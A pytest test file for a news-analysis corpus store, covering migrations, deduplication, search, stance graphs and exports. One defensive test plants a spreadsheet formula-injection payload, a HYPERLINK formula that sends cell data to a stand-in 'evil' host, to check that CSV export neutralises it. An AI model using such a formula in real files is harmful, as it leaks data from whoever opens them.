"""The corpus store on SQLite and on a real PostgreSQL (PRESSWATCH_TEST_PG_URL, set by .ci/postgres.sh).

Analyses here are hand-made with every layer filled, so these tests do not depend
on the extraction layers (or spaCy). Each PostgreSQL test runs in its own schema.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import uuid

import pytest

from presswatch.store import QueryError, StoreError, open_store, pipeline_id
from presswatch.store_export import export, network_graphml
from presswatch.store_migrations import LATEST
from presswatch.store_query import (Filters, actor_by_key, actor_profile, article_keys, corpus_counts, fts5_query,
                                    list_actors, list_articles, search, stance_graph, stance_network, stances)
from presswatch.types import (Actor, Analysis, Article, Entity, Event, EventArg, LayoutSpan, Quote, Role, Speaker,
                              Stance, StanceTarget, Technique)

PIPE = pipeline_id("0.1.0", "test_model", ["layout", "entities", "quotes"])


# -- PostgreSQL plumbing (also used by test_corpus_cli.py) ------------------------------

def pg_base_url() -> str:
    url = os.environ.get("PRESSWATCH_TEST_PG_URL")
    if not url:
        pytest.skip("PostgreSQL tests need PRESSWATCH_TEST_PG_URL (run `source .ci/postgres.sh` first)")
    try:
        import psycopg

        psycopg.connect(url, connect_timeout=5).close()
    except Exception as exc:  # noqa: BLE001 - any failure means: no server to test against
        pytest.skip(f"PostgreSQL at PRESSWATCH_TEST_PG_URL is unreachable: {' '.join(str(exc).split())[:200]}")
    return url


class PgSchema:
    """A fresh schema on the test server; ``url`` points search_path at it."""

    def __init__(self) -> None:
        import psycopg

        self.base = pg_base_url()
        self.name = "pwtest_" + uuid.uuid4().hex[:12]
        with psycopg.connect(self.base, autocommit=True) as conn:
            conn.execute(f"CREATE SCHEMA {self.name}")
        sep = "&" if "?" in self.base else "?"
        self.url = f"{self.base}{sep}options=-csearch_path%3D{self.name}"

    def drop(self) -> None:
        import psycopg

        with psycopg.connect(self.base, autocommit=True) as conn:
            conn.execute(f"DROP SCHEMA {self.name} CASCADE")


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request, tmp_path):
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'corpus.db'}"
        return
    schema = PgSchema()
    try:
        yield schema.url
    finally:
        schema.drop()


@pytest.fixture
def store(db_url):
    s = open_store(db_url)
    yield s
    s.close()


# -- hand-made analyses ------------------------------------------------------------------

def _span(text: str, part: str, nth: int = 0) -> list[int]:
    start = -1
    for _ in range(nth + 1):
        start = text.index(part, start + 1)
    return [start, start + len(part)]


def make_analysis(title: str = "Ministers clash over the grain corridor", published: str = "2022-03-01",
                  outlet: str = "Daily Planet", source: str = "planet/1.txt", filler: str = "",
                  version: str = "0.1.0") -> Analysis:
    """One article with layout, entities, actors, two quotes, an event, stances and techniques."""
    body = (f"Sergey Lavrov said: \u201cThe expansion of NATO is a direct threat to Russia and its people.\u201d "
            f"Antony Blinken replied that the United States firmly supports the sovereignty of Ukraine. "
            f"{filler}The grain corridor talks in Istanbul ended without agreement on Tuesday.")
    text = f"{title}\n\n{body}\n"
    b0 = text.index(body)
    article = Article(id=hashlib.sha256(text.encode()).hexdigest(), text=text, source=source, title=title,
                      published=published, authors=["A. Writer"], language="en", outlet=outlet,
                      layout=[LayoutSpan("title", 0, len(title)), LayoutSpan("body", b0, b0 + len(body))])
    lav, bli = _span(text, "Sergey Lavrov"), _span(text, "Antony Blinken")
    actors = [
        Actor("Q159", "Russia", "state", "RUS", aliases=["Russian Federation"], mentions=[_span(text, "Russia")]),
        Actor("Q7184", "NATO", "alliance", mentions=[_span(text, "NATO")]),
        Actor("Q212", "Ukraine", "state", "UKR", mentions=[_span(text, "Ukraine")]),
        Actor("Q30", "United States", "state", "USA", aliases=["US", "USA"], mentions=[_span(text, "United States")]),
        Actor("Q80510", "Sergey Lavrov", "person", "RUS", aliases=["Sergei Lavrov", "Lavrov"],
              roles=[Role("Minister of Foreign Affairs", "Government of Russia", "RUS", "2004-03-09")],
              mentions=[lav]),
        Actor("local-1", "Antony Blinken", "person", "USA", local=True,
              roles=[Role("Secretary of State", None, "USA")], mentions=[bli]),
    ]
    entities = [Entity(f"e{i}", lab, s, e, text[s:e], actor=act) for i, (lab, (s, e), act) in enumerate([
        ("PERSON", lav, "Q80510"), ("ORG", _span(text, "NATO"), "Q7184"), ("GPE", _span(text, "Russia"), "Q159"),
        ("PERSON", bli, "local-1"), ("GPE", _span(text, "United States"), "Q30"),
        ("GPE", _span(text, "Ukraine"), "Q212"), ("GPE", _span(text, "Istanbul"), None)])]
    entities[-1].reading, entities[-1].country = "place", "TUR"  # a located city (cities.py sets these)
    q1 = _span(text, "The expansion of NATO is a direct threat to Russia and its people.")
    q2 = _span(text, "the United States firmly supports the sovereignty of Ukraine")
    quotes = [
        Quote("q1", "direct", [q1], cue=_span(text, "said"), source=[lav], speaker=Speaker("Sergey Lavrov", "Q80510")),
        Quote("q2", "indirect", [q2], cue=_span(text, "replied"), source=[bli],
              speaker=Speaker("Antony Blinken", "local-1")),
    ]
    events = [Event("v1", "ACCUSE", "112", source=EventArg("Q80510", "Sergey Lavrov", lav),
                    target=EventArg("Q7184", "NATO", _span(text, "NATO")), cue=_span(text, "threat"), quote="q1",
                    evidence=q1, date=published),
              Event("v2", "SUPPORT", "051", source=EventArg("local-1", "Antony Blinken", bli),
                    target=EventArg("Q212", "Ukraine"), quote="q2", evidence=q2)]
    stances_ = [Stance("Q80510", "oppose", StanceTarget("Q7184", "NATO"), evidence=[q1], events=["v1"], confidence=0.9),
                Stance("local-1", "support", StanceTarget("Q212", "Ukraine"), evidence=[q2], events=["v2"]),
                Stance("Q80510", "oppose", StanceTarget(None, "the grain deal"), evidence=[q1], confidence=0.4)]
    techniques = [Technique("Loaded_Language", *_span(text, "direct threat"), score=0.8, voice="q1"),
                  Technique("Appeal_to_fear-prejudice", *q1, score=0.6, voice="q1"),
                  Technique("Doubt", *_span(text, "ended without agreement"), score=0.3, voice="author")]
    return Analysis(article=article, entities=entities, actors=actors, quotes=quotes, events=events,
                    stances=stances_, techniques=techniques,
                    meta={"version": version, "model": "test_model", "layers": ["layout", "entities", "quotes"],
                          "warnings": []})


def other_analysis() -> Analysis:
    """A second, different article (different date, outlet and words)."""
    a = make_analysis(title="Harvest festival draws record crowds", published="2023-07-15", outlet="Farm Weekly",
                      source="farm/7.txt",
                      filler="Farmers from twelve provinces brought pumpkins, apples and honey to the fair. ")
    return a


# -- migrations and basics -------------------------------------------------------------

def test_migrations_applied_once_and_recorded(db_url):
    with open_store(db_url) as s:
        assert s.schema_version() == LATEST
        assert s.migrate() == []  # nothing left to apply
        rows = s.query("SELECT version, name FROM schema_migrations ORDER BY version")
        assert [r["version"] for r in rows] == list(range(1, LATEST + 1))
    with open_store(db_url) as s:  # reopening does not re-run anything
        assert s.schema_version() == LATEST


def test_newer_schema_is_refused(db_url):
    with open_store(db_url) as s:
        with s.transaction():
            s.insert("schema_migrations", {"version": LATEST + 1, "name": "future", "applied_at": "2030-01-01"})
    with pytest.raises(StoreError, match="newer than this presswatch"):
        open_store(db_url)


def test_bad_urls():
    from presswatch.errors import ConfigError

    with pytest.raises(ConfigError, match="unsupported database URL"):
        open_store("mysql://x/y")
    with pytest.raises(StoreError, match="does not exist"):
        open_store("sqlite:////nonexistent-dir-pw/x.db")


def test_unreachable_postgres_is_one_line_error():
    with pytest.raises(StoreError, match="cannot connect to PostgreSQL") as info:
        open_store("postgresql://nobody@127.0.0.1:1/none")
    assert "\n" not in str(info.value)


def test_entity_country_column(store):
    assert "country" in _columns(store, "entities")
    analysis = make_analysis()
    store.write_analysis(analysis, PIPE)
    rows = store.query("SELECT text, country FROM entities ORDER BY position")
    assert [(r["text"], r["country"]) for r in rows if r["country"]] == [("Istanbul", "TUR")]
    assert sum(r["country"] is None for r in rows) == 6
    assert store.load_analysis(analysis.article.id).entities[-1].country == "TUR"
    out = io.StringIO()
    assert export(store, "csv", out, table="entities") == 7
    exported = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["country"] for r in exported if r["text"] == "Istanbul"] == ["TUR"]


def _columns(store, table: str) -> set[str]:
    if store.dialect == "sqlite":
        return {r["name"] for r in store.query(f"PRAGMA table_info({table})")}
    return {r["column_name"] for r in store.query(
        "SELECT column_name FROM information_schema.columns WHERE table_name = ? "
        "AND table_schema = current_schema()", [table])}


def test_old_schema_store_upgrades_in_place(db_url, monkeypatch):
    """A store made before the entity country column keeps its rows and gains the column (NULL)."""
    import presswatch.store as store_mod
    from presswatch.store_migrations import MIGRATIONS

    real_fact_rows = store_mod.fact_rows
    monkeypatch.setattr(store_mod, "MIGRATIONS", MIGRATIONS[:2])
    monkeypatch.setattr(store_mod, "LATEST", 2)
    monkeypatch.setattr(store_mod, "fact_rows", lambda a: _without_country(real_fact_rows(a)))
    old = make_analysis()
    with open_store(db_url) as s:
        assert s.schema_version() == 2 and "country" not in _columns(s, "entities")
        assert s.write_analysis(old, PIPE) == "ingested"
    monkeypatch.undo()
    with open_store(db_url) as s:
        assert s.schema_version() == LATEST
        assert "country" in _columns(s, "entities")
        rows = s.query("SELECT text, country FROM entities WHERE article_id = ? ORDER BY position", [old.article.id])
        assert len(rows) == 7 and all(r["country"] is None for r in rows)
        assert s.load_analysis(old.article.id) == old  # the analysis JSON is untouched
        new = other_analysis()
        assert s.write_analysis(new, PIPE) == "ingested"
        assert s.scalar("SELECT country FROM entities WHERE article_id = ? AND text = 'Istanbul'",
                        [new.article.id]) == "TUR"
        assert s.counts()["articles"] == 2


def _without_country(rows):
    for row in rows["entities"]:
        row.pop("country")
    return rows


# -- writing -------------------------------------------------------------------------------

def test_write_and_load_round_trip(store):
    analysis = make_analysis()
    assert store.write_analysis(analysis, PIPE, reanalyze=False) == "ingested"
    loaded = store.load_analysis(analysis.article.id)
    assert loaded == analysis
    counts = store.counts()
    assert counts["articles"] == counts["analyses"] == 1
    assert (counts["entities"], counts["actors"], counts["quotes"], counts["events"], counts["stances"],
            counts["techniques"], counts["layout"]) == (7, 6, 2, 2, 3, 3, 2)
    row = store.query("SELECT * FROM quotes WHERE quote_id = 'q2'")[0]
    assert row["speaker_key"] == "local:antony blinken" and row["speaker_name"] == "Antony Blinken"
    assert row["text"] == "the United States firmly supports the sovereignty of Ukraine"
    # the JSON kept alongside has no second copy of the text
    stored = store.scalar("SELECT analysis FROM analyses")
    assert json.loads(stored)["article"]["text"] is None


def test_idempotent_by_hash_and_pipeline(store):
    analysis = make_analysis()
    assert store.write_analysis(analysis, PIPE) == "ingested"
    assert store.write_analysis(analysis, PIPE) == "skipped"
    newer = pipeline_id("0.2.0", "test_model", ["layout"])
    assert store.write_analysis(analysis, newer) == "skipped"  # other version, no reanalyze: kept
    assert store.scalar("SELECT pipeline FROM analyses") == PIPE
    changed = make_analysis(version="0.2.0")
    changed.quotes = changed.quotes[:1]
    assert store.write_analysis(changed, newer, reanalyze=True) == "ingested"
    assert store.scalar("SELECT pipeline FROM analyses") == newer
    assert store.counts()["quotes"] == 1  # old facts replaced, not added to
    assert store.counts()["articles"] == 1
    # the search index was rebuilt too: the dropped quote is no longer a hit
    assert [h["kind"] for h in search(store, "sovereignty")] == ["article"]


def test_exact_duplicate_links_second_source(store):
    a = make_analysis()
    b = make_analysis(source="mirror/copy.html")
    assert store.write_analysis(a, PIPE) == "ingested"
    assert store.write_analysis(b, PIPE) == "skipped"
    sources = {r["source"] for r in store.query("SELECT source FROM article_sources")}
    assert sources == {"planet/1.txt", "mirror/copy.html"}
    assert store.counts()["articles"] == 1


def test_near_duplicate_linked_not_doubled(store):
    filler = ("Delegates from Egypt, Turkey and Kenya spoke about harvest logistics and shipping insurance. "
              "Freight rates doubled since spring, traders in Odesa said, while insurers priced in mines. "
              "A new inspection regime would add two days to every voyage through the Bosphorus. "
              "Officials hope to publish a timetable for the next round before the end of the month. ")
    original = make_analysis(filler=filler)
    copy = make_analysis(filler=filler, source="aggregator/42")
    copy.article.text += "Share this\n"  # a re-published copy with a boilerplate tail
    copy.article.id = hashlib.sha256(copy.article.text.encode()).hexdigest()
    assert store.write_analysis(original, PIPE) == "ingested"
    assert store.write_analysis(copy, PIPE) == "duplicate"
    rows = store.query("SELECT id, duplicate_of, distance FROM articles ORDER BY duplicate_of")
    dup = [r for r in rows if r["duplicate_of"]]
    assert len(rows) == 2 and len(dup) == 1
    assert dup[0]["id"] == copy.article.id and dup[0]["duplicate_of"] == original.article.id
    assert 0 < dup[0]["distance"] <= 6
    assert store.counts()["analyses"] == 1  # the copy is not analysed twice
    different = other_analysis()
    different.article.text = different.article.text.replace("Harvest", "Harvest " + filler.replace("harvest", "wheat"))
    different.article.id = hashlib.sha256(different.article.text.encode()).hexdigest()
    assert store.write_analysis(different, PIPE) == "ingested"


def test_errors_and_runs_recorded(store):
    run = store.begin_run("presswatch ingest x", "local", 1, PIPE)
    store.record_error(run, "bad.txt", "E002", "empty document")
    store.record_error(run, "worse.bin", "E003", "binary file")
    store.finish_run(run, "completed", {"inputs": 2, "failed": 2})
    errs = store.query("SELECT seq, source, code FROM errors WHERE run_id = ? ORDER BY seq", [run])
    assert [(e["seq"], e["source"], e["code"]) for e in errs] == [(1, "bad.txt", "E002"), (2, "worse.bin", "E003")]
    run_row = store.query("SELECT status, n_failed, finished_at FROM runs WHERE id = ?", [run])[0]
    assert run_row["status"] == "completed" and run_row["n_failed"] == 2 and run_row["finished_at"]


def test_failed_write_leaves_nothing_behind(store, monkeypatch):
    analysis = make_analysis()
    import presswatch.store as store_mod

    def boom(*args, **kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(store_mod, "fact_rows", boom)  # fails after the article row was inserted
    with pytest.raises(RuntimeError):
        store.write_analysis(analysis, PIPE)
    monkeypatch.undo()
    assert store.counts()["articles"] == 0 and store.counts()["analyses"] == 0
    assert store.write_analysis(analysis, PIPE) == "ingested"


# -- queries ---------------------------------------------------------------------------------

@pytest.fixture
def filled(store):
    store.write_analysis(make_analysis(), PIPE)
    store.write_analysis(other_analysis(), PIPE)
    return store


def test_search_ranks_articles_and_quotes(filled):
    hits = search(filled, "threat")
    kinds = {h["kind"] for h in hits}
    assert kinds == {"article", "quote"}
    quote_hit = next(h for h in hits if h["kind"] == "quote")
    assert quote_hit["speaker"] == "Sergey Lavrov"
    assert quote_hit["quote"]["id"] == "q1" and "threat" in quote_hit["quote"]["text"]
    assert quote_hit["article"]["title"] == "Ministers clash over the grain corridor"
    assert "\x02threat\x03" in quote_hit["snippet"].lower()
    assert [h["rank"] for h in hits] == list(range(1, len(hits) + 1))
    # stemming: "supporting" finds "supports"
    assert any(h["kind"] == "quote" and h["quote"]["id"] == "q2" for h in search(filled, "supporting"))


def test_search_syntax_phrase_or_not(filled):
    assert {h["article"]["published"] for h in search(filled, '"grain corridor"')} == {"2022-03-01", "2023-07-15"}
    assert search(filled, '"corridor grain"') == []
    assert {h["article"]["published"] for h in search(filled, "pumpkins OR nonexistentword")} == {"2023-07-15"}
    assert {h["article"]["published"] for h in search(filled, "grain -pumpkins")} == {"2022-03-01"}
    with pytest.raises(QueryError):
        search(filled, '" -- ()')


def test_fts5_translation_quotes_everything():
    assert fts5_query('NEAR(a b) "x y" OR z -w') == '(("NEAR a" AND "b" AND "x y") OR ("z")) NOT "w"'
    assert fts5_query("col:value*") == '("col value")'


def test_search_filters(filled):
    assert {h["kind"] for h in search(filled, "NATO", Filters(speaker="lavrov"))} == {"quote"}
    assert search(filled, "NATO", Filters(speaker="Blinken")) == []
    assert search(filled, "Ukraine", Filters(speaker="blinken"))[0]["quote"]["id"] == "q2"
    # technique: quote hits need the technique inside that quote
    hits = search(filled, "threat", Filters(technique="loaded language"))
    assert {(h["kind"], (h["quote"] or {}).get("id")) for h in hits} == {("article", None), ("quote", "q1")}
    assert search(filled, "sovereignty", Filters(technique="Loaded_Language", speaker="Blinken")) == []
    assert {h["article"]["outlet"] for h in search(filled, "grain", Filters(outlet="farm"))} == {"Farm Weekly"}
    assert {h["article"]["published"] for h in search(filled, "grain", Filters(since="2023"))} == {"2023-07-15"}
    assert {h["article"]["published"] for h in search(filled, "grain", Filters(until="2022-12"))} == {"2022-03-01"}
    assert len(search(filled, "grain", Filters(actor="Q80510"))) == 2
    assert search(filled, "grain", Filters(actor="Lavrov", since="2024")) == []
    with pytest.raises(QueryError, match="bad date"):
        search(filled, "grain", Filters(since="2022-02-30"))
    with pytest.raises(QueryError):
        search(filled, "grain", limit=0)


def test_search_cleans_control_characters(store):
    a = make_analysis(title="Escape \x1b[31mred\x1b[0m attack")
    store.write_analysis(a, PIPE)
    hit = search(store, "attack")[0]
    assert "\x1b" not in hit["article"]["title"] and "\x1b" not in hit["snippet"]


def test_actor_profile(filled):
    prof = actor_profile(filled, "lavrov")  # alias, any case
    assert prof["actor"]["key"] == "Q80510" and prof["actor"]["name"] == "Sergey Lavrov"
    assert prof["articles"] == 2 and prof["first"] == "2022-03-01" and prof["last"] == "2023-07-15"
    assert prof["actor"]["roles"][0]["title"] == "Minister of Foreign Affairs"
    assert prof["quotes_total"] == 2
    assert [m["month"] for m in prof["quotes_by_month"]] == ["2022-03", "2023-07"]
    assert prof["events_as_source"] == [{"type": "ACCUSE", "count": 2, "first": "2022-03-01", "last": "2023-07-15"}]
    assert prof["events_as_target"] == []
    assert {(s["attitude"], s["target_name"], s["count"]) for s in prof["stances_as_source"]} == {
        ("oppose", "NATO", 2), ("oppose", "the grain deal", 2)}
    assert {t["technique"]: t["count"] for t in prof["techniques_in_quotes"]} == {
        "Loaded_Language": 2, "Appeal_to_fear-prejudice": 2}
    nato = actor_profile(filled, "NATO")
    assert nato["events_as_target"][0]["type"] == "ACCUSE" and nato["stances_as_target"][0]["count"] == 2
    blinken = actor_profile(filled, "Antony Blinken")  # a document-local actor, keyed by name
    assert blinken["actor"]["local"] and blinken["articles"] == 2 and blinken["quotes_total"] == 2
    assert actor_profile(filled, "Nobody Atall") is None


def test_an_empty_actor_name_is_refused_not_a_match_for_everyone(filled):
    for name in ("", "   ", "\t\n"):
        with pytest.raises(QueryError, match="actor name is empty"):
            actor_profile(filled, name)
    assert actor_profile(filled, "  Sergey   Lavrov ")["actor"]["key"] == "Q80510"  # spaces are folded


def test_stances_aggregated(filled):
    edges = stances(filled)
    top = {(e["source_name"], e["attitude"], e["target_name"]): e for e in edges}
    edge = top[("Sergey Lavrov", "oppose", "NATO")]
    assert edge["count"] == 2 and edge["articles"] == 2
    assert (edge["first"], edge["last"]) == ("2022-03-01", "2023-07-15")
    assert len(edge["examples"]) == 1 and "threat" in edge["examples"][0]["evidence"]
    assert edge["examples"][0]["article"]["id"]
    assert [e["target_name"] for e in stances(filled, source="blinken")] == ["Ukraine"]
    assert {e["source_name"] for e in stances(filled, target="Q7184")} == {"Sergey Lavrov"}
    assert stances(filled, since="2024") == []
    assert len(stances(filled, "lavrov", examples=2)[0]["examples"]) == 2


def test_stance_names_prefer_a_stored_name_to_the_bare_id(store):
    # an article whose stance names an actor that its actor list lacks stores the id as the name;
    # the edge must still read "Sergey Lavrov" (as the stance graph does), not "Q80510"
    store.write_analysis(make_analysis(), PIPE)
    stray = other_analysis()
    stray.actors = [a for a in stray.actors if a.id != "Q80510"]
    store.write_analysis(stray, PIPE)
    edge = next(e for e in stances(store) if e["source_key"] == "Q80510" and e["target_key"] == "Q7184")
    assert (edge["source_name"], edge["target_name"], edge["count"]) == ("Sergey Lavrov", "NATO", 2)
    assert {e["source_name"] for e in stances(store, source="Q80510", examples=0)} == {"Sergey Lavrov"}


def test_csv_exports_defuse_spreadsheet_formulas(store):
    # articles are untrusted: a title or quote that starts with = + - @ must not run in a spreadsheet
    evil = make_analysis(title='=HYPERLINK("http://evil.example/?"&A1,"open")')
    evil.quotes[1].speaker.name = "@SUM(1+1)"
    store.write_analysis(evil, PIPE)
    out = io.StringIO()
    export(store, "csv", out, table="articles")
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["title"] == "'" + evil.article.title and row["text"].startswith("'=HYPERLINK")
    assert row["n_chars"] == str(len(evil.article.text))  # numbers stay numbers
    out = io.StringIO()
    export(store, "csv", out, table="quotes")
    assert "'@SUM(1+1)" in {r["speaker_name"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
    out = io.StringIO()
    export(store, "jsonl", out, table="articles")  # JSON is data, not a spreadsheet: unchanged
    assert json.loads(out.getvalue().splitlines()[0])["title"] == evil.article.title


def test_graphml_survives_control_characters_from_the_article(store):
    # a form feed or vertical tab in an article reached a stance target and an actor name; the
    # GraphML writer refused the whole graph ("All strings must be XML compatible")
    import networkx as nx

    a = make_analysis()
    a.stances[2].target = StanceTarget(None, "the grain\x0b deal\x0c")
    a.actors[1].name = "NATO\x1b"
    store.write_analysis(a, PIPE)
    out = io.BytesIO()
    assert export(store, "graphml", out) == 3
    g = nx.read_graphml(io.BytesIO(out.getvalue()))
    assert g.nodes["text:the grain deal"]["label"] == "the grain\ufffd deal\ufffd"
    assert g.nodes["Q7184"]["label"] == "NATO\ufffd"
    network = stance_network(store)
    assert nx.read_graphml(io.BytesIO(network_graphml(network))).number_of_edges() == len(network["edges"])


def test_exports(filled, tmp_path):
    out = io.StringIO()
    assert export(filled, "jsonl", out) == 2
    docs = [json.loads(line) for line in out.getvalue().splitlines()]
    assert {d["schema"] for d in docs} == {"presswatch/1"} and all(d["article"]["text"] for d in docs)
    assert Analysis.from_dict(docs[0]).to_dict() == docs[0]
    out = io.StringIO()
    assert export(filled, "csv", out, table="quotes") == 4
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {r["speaker_name"] for r in rows} == {"Sergey Lavrov", "Antony Blinken"}
    pq_path = tmp_path / "edges.parquet"
    assert export(filled, "parquet", str(pq_path), table="edges") == 3
    import pyarrow.parquet as pq

    table = pq.read_table(pq_path)
    assert set(table.column("attitude").to_pylist()) == {"support", "oppose"}
    with pytest.raises(QueryError):
        export(filled, "parquet", io.StringIO())
    with pytest.raises(QueryError):
        export(filled, "xml", io.StringIO())


def test_graphml_loads_in_networkx(filled, tmp_path):
    import networkx as nx
    from lxml import etree

    path = tmp_path / "graph.graphml"
    assert export(filled, "graphml", str(path)) == 3
    etree.parse(str(path))  # well-formed XML
    g = nx.read_graphml(path)
    assert g.is_directed()
    assert g.nodes["Q80510"]["label"] == "Sergey Lavrov" and g.nodes["Q80510"]["country"] == "RUS"
    edge = g.edges["Q80510", "Q7184"]
    assert (edge["oppose"], edge["support"], edge["weight"], edge["attitude"], edge["sign"]) == (2, 0, 2, "oppose", -1.0)
    assert g.edges["local:antony blinken", "Q212"]["attitude"] == "support"
    assert g.nodes["text:the grain deal"]["type"] == "text"
    graph = stance_graph(filled)
    assert len(graph.edges) == 3


# -- listings and lookups by key (what the web API and pages read) ------------------------------

def test_list_articles_filters_and_pages(filled):
    total, page = list_articles(filled)
    assert total == 2 and [r["published"] for r in page] == ["2023-07-15", "2022-03-01"]  # newest first
    first = page[1]
    assert (first["n_quotes"], first["n_actors"], first["n_events"], first["n_stances"], first["n_techniques"]) == (
        2, 6, 2, 3, 3)
    assert first["layers"] == ["layout", "entities", "quotes"]
    assert list_articles(filled, Filters(outlet="planet"))[0] == 1
    assert list_articles(filled, Filters(since="2023"))[1][0]["title"] == "Harvest festival draws record crowds"
    assert list_articles(filled, Filters(technique="doubt"))[0] == 2
    assert list_articles(filled, Filters(actor="nobody at all"))[0] == 0
    total, rest = list_articles(filled, limit=1, offset=1)
    assert total == 2 and [r["id"] for r in rest] == [first["id"]]


def test_list_actors_and_actor_by_key(filled):
    total, rows = list_actors(filled)
    assert total == 6
    lavrov = next(r for r in rows if r["key"] == "Q80510")
    assert (lavrov["name"], lavrov["country"], lavrov["articles"], lavrov["quotes"]) == ("Sergey Lavrov", "RUS", 2, 2)
    assert [r["key"] for r in list_actors(filled, "BLINK")[1]] == ["local:antony blinken"]
    assert list_actors(filled, "Q212")[1][0]["name"] == "Ukraine"  # an exact key matches too
    assert actor_by_key(filled, "Q80510")["actor"]["name"] == "Sergey Lavrov"
    assert actor_by_key(filled, "Q80") is None  # a prefix of a key is no key
    assert actor_by_key(filled, "text:the grain deal")["stances_as_target"][0]["source_key"] == "Q80510"


def test_speaker_known_only_from_quotes_has_a_profile(store):
    analysis = make_analysis()
    analysis.actors = []  # analysed without the actors layer: speakers are names only
    for q in analysis.quotes:
        q.speaker.actor = None
    store.write_analysis(analysis, PIPE)
    key = "text:sergey lavrov"
    assert [r["key"] for r in list_actors(store, "lavrov")[1]] == [key]
    profile = actor_by_key(store, key)
    assert profile["actor"]["name"] == "Sergey Lavrov" and profile["quotes_total"] == 1
    assert profile["quotes"][0]["text"].startswith("The expansion of NATO")


def test_article_keys_and_corpus_counts(filled):
    article_id = make_analysis().article.id
    keys = article_keys(filled, article_id)
    assert keys["actors"]["local-1"] == "local:antony blinken" and keys["quotes"]["q1"] == "Q80510"
    assert keys["events"][0] == ("Q80510", "Q7184") and keys["stances"][2] == ("Q80510", "text:the grain deal")
    assert corpus_counts(filled) == {"articles": 2, "duplicates": 0, "actors": 6, "quotes": 4, "events": 4,
                                     "stances": 6, "techniques": 6}


def test_stance_network_matches_the_whole_graph(filled):
    network = stance_network(filled)
    graph = stance_graph(filled)
    assert {(e["source"], e["target"]) for e in network["edges"]} == set(graph.edges)
    for e in network["edges"]:  # one aggregation for both: the same totals
        assert {k: e[k] for k in graph.edges[(e["source"], e["target"])]} == graph.edges[(e["source"], e["target"])]
    lavrov_nato = next(e for e in network["edges"] if (e["source"], e["target"]) == ("Q80510", "Q7184"))
    assert (lavrov_nato["oppose"], lavrov_nato["weight"], lavrov_nato["articles"], lavrov_nato["attitude"]) == (
        2, 2, 2, "oppose")
    assert "threat" in lavrov_nato["example"]["evidence"]
    assert {n["id"] for n in network["nodes"]} == {"Q80510", "Q7184", "local:antony blinken", "Q212",
                                                     "text:the grain deal"}
    # filtered by an actor at either end
    mine = stance_network(filled, actor="Q80510")
    assert sorted(e["target"] for e in mine["edges"]) == ["Q7184", "text:the grain deal"]
    assert sum(n["weight"] for n in mine["nodes"] if n["id"] == "Q80510") == 4
    assert stance_network(filled, attitude="support")["edges"][0]["target"] == "Q212"
    assert stance_network(filled, since="2024") == {"nodes": [], "edges": []}
    with pytest.raises(QueryError):
        stance_network(filled, until="soon")
    import networkx as nx

    g = nx.read_graphml(io.BytesIO(network_graphml(mine)))
    assert g.number_of_edges() == 2 and g.edges["Q80510", "Q7184"]["sign"] == -1.0


def test_delete_article_removes_it_its_facts_and_its_copies(store):
    filler = ("Delegates from Egypt, Turkey and Kenya spoke about harvest logistics and shipping insurance. "
              "Freight rates doubled since spring, traders in Odesa said, while insurers priced in mines. "
              "A new inspection regime would add two days to every voyage through the Bosphorus. ")
    original = make_analysis(filler=filler)
    copy = make_analysis(filler=filler, source="aggregator/42")
    copy.article.text += "Share this\n"
    copy.article.id = hashlib.sha256(copy.article.text.encode()).hexdigest()
    other = other_analysis()
    store.write_analysis(original, PIPE)
    assert store.write_analysis(copy, PIPE) == "duplicate"
    store.write_analysis(other, PIPE)
    assert store.delete_article("f" * 64) == 0
    assert store.delete_article(original.article.id) == 2
    assert store.delete_article(original.article.id) == 0
    left = {r["id"] for r in store.query("SELECT id FROM articles")}
    assert left == {other.article.id}
    for table in ("analyses", "simhash_bands", "article_sources", "entities", "quotes", "stances", "techniques"):
        ids = {r["article_id"] for r in store.query(f"SELECT DISTINCT article_id FROM {table}")}
        assert ids <= left, table
    assert [h["article"]["id"] for h in search(store, "Istanbul")] == [other.article.id]
    assert store.write_analysis(original, PIPE) == "ingested"  # nothing of the old one stood in the way
